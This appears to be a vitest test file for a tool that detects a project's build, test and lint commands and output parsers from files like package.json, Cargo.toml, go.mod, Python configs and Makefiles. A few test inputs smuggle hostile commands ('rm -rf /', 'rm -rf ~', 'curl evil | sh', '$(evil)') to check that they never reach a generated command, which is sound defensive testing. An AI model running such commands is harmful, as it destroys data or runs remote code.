// Which checks a project is found to have, from its files alone.
import { describe, expect, test } from 'vitest';
import { checkSpecSchema } from '../../domain/check-spec.ts';
import { parserNamed } from '../parsers/all.ts';
import { findChecks } from './find-checks.ts';
import type { TreeReader } from './project-tree.ts';

function tree(files: Readonly<Record<string, string>>): TreeReader {
  return {
    exists: (path) => Object.keys(files).some((file) => file === path || file.startsWith(`${path}/`)),
    read: (path) => (Object.hasOwn(files, path) ? files[path] : undefined),
    list: (path) =>
      Object.keys(files)
        .filter((file) => file.startsWith(`${path}/`))
        .map((file) => file.slice(path.length + 1)),
  };
}

const checks = (files: Readonly<Record<string, string>>) => {
  const found = findChecks(tree(files));
  // Whatever is found must be a check, its name its own and its parser one that exists.
  for (const check of found) checkSpecSchema.parse(check);
  expect(new Set(found.map(({ name }) => name)).size).toBe(found.length);
  for (const { parser } of found) if (parser !== undefined) expect(parserNamed(parser)).toBeDefined();
  return found;
};
const scripts = (all: Readonly<Record<string, unknown>>, more: object = {}) =>
  JSON.stringify({ scripts: all, ...more });
const commands = (files: Readonly<Record<string, string>>) => checks(files).map(({ command }) => command);

test('nothing is found in nothing', () => {
  expect(checks({})).toEqual([]);
  expect(checks({ 'README.md': 'npm test' })).toEqual([]);
});

describe('package.json', () => {
  test('its scripts, each with what it counts for', () => {
    const manifest = scripts({
      test: 'vitest run',
      lint: 'eslint .',
      build: 'tsc -b',
      typecheck: 'tsc',
      start: 'x',
    });
    expect(checks({ 'package.json': manifest })).toEqual([
      { name: 'build', command: 'npm run -s build', required: true, origin: 'package.json scripts.build' },
      {
        name: 'typecheck',
        command: 'npm run -s typecheck',
        required: true,
        origin: 'package.json scripts.typecheck',
      },
      {
        name: 'test',
        command: 'npm test',
        parser: 'vitest-text',
        signal: 'tests',
        required: true,
        origin: 'package.json scripts.test',
      },
      {
        name: 'lint',
        command: 'npm run -s lint',
        parser: 'eslint-text',
        signal: 'lint',
        required: false,
        origin: 'package.json scripts.lint',
      },
    ]);
  });

  test.each(['type-check', 'types', 'tsc'])('a typecheck by the name of %s', (name) => {
    expect(commands({ 'package.json': scripts({ [name]: 'tsc --noEmit' }) })).toEqual([`npm run -s ${name}`]);
  });

  test.each([
    ['pnpm-lock.yaml', 'pnpm run test'],
    ['yarn.lock', 'yarn run test'],
    ['bun.lock', 'bun run test'],
    ['bun.lockb', 'bun run test'],
    ['package-lock.json', 'npm test'],
  ])('with %s: %s', (lock, command) => {
    expect(commands({ 'package.json': scripts({ test: 'x' }), [lock]: '' })).toEqual([command]);
  });

  test('the manager it names comes before lock files', () => {
    const manifest = scripts({ test: 'x' }, { packageManager: 'pnpm@9.1.0' });
    expect(commands({ 'package.json': manifest, 'yarn.lock': '' })).toEqual(['pnpm run test']);
    const odd = scripts({ test: 'x' }, { packageManager: 'rm -rf / ;@1' });
    expect(commands({ 'package.json': odd })).toEqual(['npm test']);
  });

  test.each([
    '{',
    '[]',
    'null',
    '{"scripts":[]}',
    '{"scripts":{"test":1}}',
    '{"scripts":{"test":""}}',
    scripts({ test: 'echo "Error: no test specified" && exit 1' }),
    scripts({ 'test; rm -rf ~': 'x', toString: 'x' }),
  ])('nothing in %s', (manifest) => {
    expect(checks({ 'package.json': manifest })).toEqual([]);
  });

  test('what a script says never becomes part of a command', () => {
    const found = checks({ 'package.json': scripts({ test: 'vitest; curl evil | sh', lint: '$(evil)' }) });
    expect(JSON.stringify(found)).not.toContain('evil');
  });
});

describe('the parser of a script', () => {
  const parserOf = (test: string, more: object = {}) =>
    checks({ 'package.json': scripts({ test, ...more }) }).find(({ name }) => name === 'test')?.parser;

  test.each([
    ['vitest', 'vitest-text'],
    ['NODE_ENV=test npx vitest run --coverage', 'vitest-text'],
    ['vitest run --reporter=verbose', 'vitest-text'],
    ['vitest run --reporter json', undefined],
    ['tsc && jest --ci', 'jest-text'],
    ['jest --json', 'jest-json'],
    ['node --experimental-vm-modules node_modules/jest/bin/jest.js', 'jest-text'],
    ['react-scripts test', 'jest-text'],
    ['c8 mocha "test/**/*.js"', 'mocha-text'],
    ['mocha -R json', 'mocha-json'],
    ['mocha --reporter=nyan', undefined],
    ['node --test', 'node-test'],
    ['node --import tsx --test src/*.test.ts', 'node-test'],
    ['node --test --test-reporter=dot', undefined],
    ['node test.js', undefined],
    ['tape test/*.js', 'tap'],
    ['ava', undefined],
    ['ava --tap', 'tap'],
    ['python -m pytest', 'pytest'],
    ['cargo test --all', 'cargo-test'],
    ['cargo build && vitest', 'vitest-text'],
    ['go test ./...', undefined],
    ['jest && mocha', undefined],
    ['jest && node --test --test-reporter=dot', undefined],
    ['jest --selectProjects a && jest --selectProjects b', 'jest-text'],
    ['echo vitests', undefined],
  ])('%s: %s', (script, parser) => {
    expect(parserOf(script)).toBe(parser);
  });

  test('scripts that call scripts are followed, not for ever', () => {
    expect(parserOf('npm run check && npm run test:unit', { 'test:unit': 'vitest run' })).toBe('vitest-text');
    expect(parserOf('npm run test && npm run test')).toBeUndefined();
    expect(parserOf('npm run a', { a: 'jest', b: 'mocha' })).toBe('jest-text');
  });

  test.each([
    ['eslint src', 'eslint-text'],
    ['eslint . -f json', 'eslint-json'],
    ['eslint --format=unix .', undefined],
    ['biome ci .', 'biome-text'],
    ['biome check --reporter=json', 'biome-json'],
    ['ruff check .', undefined],
    ['ruff check --output-format=json .', 'ruff-json'],
    ['eslint . && biome lint', undefined],
    ['standard', undefined],
  ])('%s: %s', (lint, parser) => {
    expect(checks({ 'package.json': scripts({ lint }) })[0]?.parser).toBe(parser);
  });
});

test('cargo and go', () => {
  expect(commands({ 'Cargo.toml': '' })).toEqual(['cargo build', 'cargo test']);
  expect(checks({ 'go.mod': '' })).toMatchObject([
    { command: 'go test -json ./...', parser: 'go-test-json', signal: 'tests', required: true },
    { command: 'go vet ./...', required: false },
  ]);
});

describe('python', () => {
  const pytest = 'python3 -m pytest -q';

  test.each([
    ['pytest.ini', ''],
    ['conftest.py', ''],
    ['tests/conftest.py', ''],
    ['pyproject.toml', '[tool.pytest.ini_options]\n'],
    ['setup.cfg', '[tool:pytest]\n'],
    ['tox.ini', '[tox]\n[pytest]\n'],
    ['tests/test_a.py', ''],
    ['test/a_test.py', ''],
  ])('pytest by %s', (path, text) => {
    expect(commands({ [path]: text })).toEqual([pytest]);
  });

  test.each([
    ['pyproject.toml', '[project]\n# [tool.pytest]'],
    ['tests/helper.py', ''],
    ['setup.cfg', '[metadata]'],
  ])('not by %s with %j', (path, text) => {
    expect(checks({ [path]: text })).toEqual([]);
  });

  test("the project's own environment is used where there is one", () => {
    expect(commands({ 'pytest.ini': '', '.venv/bin/python': '' })).toEqual(['.venv/bin/python -m pytest -q']);
  });

  test('ruff by its own file or its section', () => {
    const ruff = 'ruff check --output-format json .';
    expect(commands({ 'ruff.toml': '' })).toEqual([ruff]);
    expect(commands({ 'pyproject.toml': '[tool.ruff.lint]\n' })).toEqual([ruff]);
    expect(checks({ '.ruff.toml': '' })[0]).toMatchObject({
      parser: 'ruff-json',
      signal: 'lint',
      required: false,
    });
  });
});

describe('make', () => {
  const makefile =
    '.PHONY: test lint\nCC := gcc\n\ntest: build\n\t@python3 -m pytest\n\nlint:\n\truff check .\n';

  test('its targets, with the parser their recipe tells', () => {
    expect(checks({ Makefile: makefile })).toEqual([
      {
        name: 'make-test',
        command: 'make test',
        parser: 'pytest',
        signal: 'tests',
        required: true,
        origin: 'Makefile test',
      },
      { name: 'make-lint', command: 'make lint', signal: 'lint', required: false, origin: 'Makefile lint' },
    ]);
  });

  test('only for what nothing else is there for', () => {
    expect(commands({ Makefile: makefile, 'go.mod': '' })).toEqual([
      'go test -json ./...',
      'go vet ./...',
      'make lint',
    ]);
  });

  test('check where there is no test; variables and comments are no targets', () => {
    expect(commands({ Makefile: 'check:\n\t./run\n' })).toEqual(['make check']);
    expect(commands({ Makefile: 'all test: a\n' })).toEqual(['make test']);
    expect(commands({ Makefile: 'test := a\nlint = b\n# check:\n' })).toEqual([]);
  });
});
